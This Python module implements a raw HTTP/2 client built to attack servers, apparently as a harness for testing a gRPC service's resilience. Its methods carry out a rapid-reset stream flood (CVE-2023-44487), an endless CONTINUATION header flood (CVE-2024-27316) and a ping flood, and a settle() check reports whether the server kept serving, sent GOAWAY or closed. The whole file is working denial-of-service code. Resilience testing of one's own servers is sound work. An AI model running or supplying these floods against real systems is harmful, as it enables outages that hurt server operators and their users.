"""As much of HTTP/2 (RFC 9113) as a hostile client needs: opens streams and resets them at once, or sends other floods.
Standard library only."""

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
SETTLED = b"settled?"


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def header(name, value):
    """A literal that is not indexed (RFC 7541 6.2.2), without Huffman; lengths below 127."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/coffer.v1.Secrets/Get"):
    return b"".join(header(n, v) for n, v in ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
                                              (b"content-type", b"application/grpc"), (b"te", b"trailers")))


class Http2:
    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.next = 1
        self.received, self.ended = b"", None

    def close(self):
        self.socket.close()

    def send(self, data):
        """False when the server has ended the connection."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def drain(self):
        """Takes what the server has sent, so that it is not held up by us."""
        self.socket.setblocking(False)
        try:
            while data := self.socket.recv(1 << 16):
                self.frames(data)
        except (BlockingIOError, OSError):
            pass
        self.socket.setblocking(True)
        self.socket.settimeout(20)

    def frames(self, data):
        """What came, frame by frame: whether the server says good-bye, and the answer to settle()."""
        self.received += data
        while len(self.received) >= 9 and len(self.received) >= 9 + (length := int.from_bytes(self.received[:3], "big")):
            kind, payload = self.received[3], self.received[9:9 + length]
            self.received = self.received[9 + length:]
            if kind == GOAWAY:
                self.ended = "goaway"
            elif kind == PING and payload == SETTLED:
                self.ended = self.ended or "served"

    def settle(self):
        """Waits until the server has worked through all that was sent: served (it answers a ping), goaway or closed."""
        self.send(frame(PING, 0, 0, SETTLED))
        while not self.ended:
            try:
                data = self.socket.recv(1 << 16)
            except ConnectionResetError:
                data = b""
            if data:
                self.frames(data)
            else:
                self.ended = "closed"
        return self.ended

    def open_and_reset(self, streams):
        """Opens streams and cancels each at once ("rapid reset", CVE-2023-44487). How many went out."""
        block = request()
        for n in range(streams):
            stream, self.next = self.next, self.next + 2
            if not self.send(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))):
                return n
            if n % 100 == 99:
                self.drain()
        return streams

    def continuation_flood(self, frames):
        """A header that never ends (CVE-2024-27316). How many frames went out."""
        if not self.send(frame(HEADERS, 0, self.next, request())):
            return 0
        for n in range(frames):
            if not self.send(frame(CONTINUATION, 0, self.next, header(b"x-%d" % n, b"y" * 100) * 10)):
                return n
            if n % 100 == 99:
                self.drain()
        return frames

    def ping_flood(self, pings):
        for n in range(pings):
            if not self.send(frame(PING, 0, 0, b"8 bytes!")):
                return n
            if n % 100 == 99:
                self.drain()
        return pings
